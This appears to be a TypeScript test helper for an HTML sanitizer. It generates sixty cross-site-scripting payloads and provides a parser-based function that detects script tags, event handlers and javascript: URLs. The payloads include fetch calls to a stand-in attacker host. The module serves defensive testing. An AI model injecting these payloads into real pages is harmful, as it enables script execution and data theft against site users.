import { Parser } from 'htmlparser2'

const effects = ['alert(1)', 'alert`1`', 'fetch("//evil.example")']
const wrappings = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `"><script>${js}</script>`,
  (js: string) => `'><script>${js}</script>`,
  (js: string) => `</textarea><script>${js}</script>`,
  (js: string) => `</title></style><script>${js}</script>`,
  (js: string) => `<img src=x onerror=${js}>`,
  (js: string) => `"><img src=x onerror=${js}>`,
  (js: string) => `" onmouseover="${js}" x="`,
  (js: string) => `' onfocus='${js}' autofocus x='`,
  (js: string) => `<svg onload=${js}>`,
  (js: string) => `<svg><animate onbegin=${js} attributeName=x>`,
  (js: string) => `<a href="javascript:${js}">x</a>`,
  (js: string) => `javascript:${js}`,
  (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
  (js: string) => `<details open ontoggle=${js}>`,
  (js: string) => `<form action="javascript:${js}"><button>x`,
  (js: string) => `<div hx-on:load="${js}" hx-get="//evil.example">`,
  (js: string) => `<div x-data x-init="${js}">`,
  (js: string) => `{{ ${js} }}{{{ ${js} }}}@eval(${js})`,
  (js: string) => `--><script>${js}</script><!--`,
]

/** What people type who want a page to do their bidding: sixty ways. */
export const scripts = wrappings.flatMap((wrap) => effects.map(wrap))

/** What in a page would run: handlers, scripts of its own, addresses that are code. Names what it found. */
export function alive(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (name === 'script' && !attributes.src) found.push('<script>')
      if (['iframe', 'object', 'embed', 'base', 'animate'].includes(name)) found.push(`<${name}>`)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on|^hx-on|^x-init$|^srcdoc$/.test(attribute)) found.push(`${name} ${attribute}`)
        if (/^(href|src|action|formaction|hx-\w+)$/.test(attribute) && /^\s*javascript:|^\/\/evil/i.test(value)) found.push(`${name} ${attribute}=${value}`)
      }
    },
  })
  parser.end(html)
  return found
}
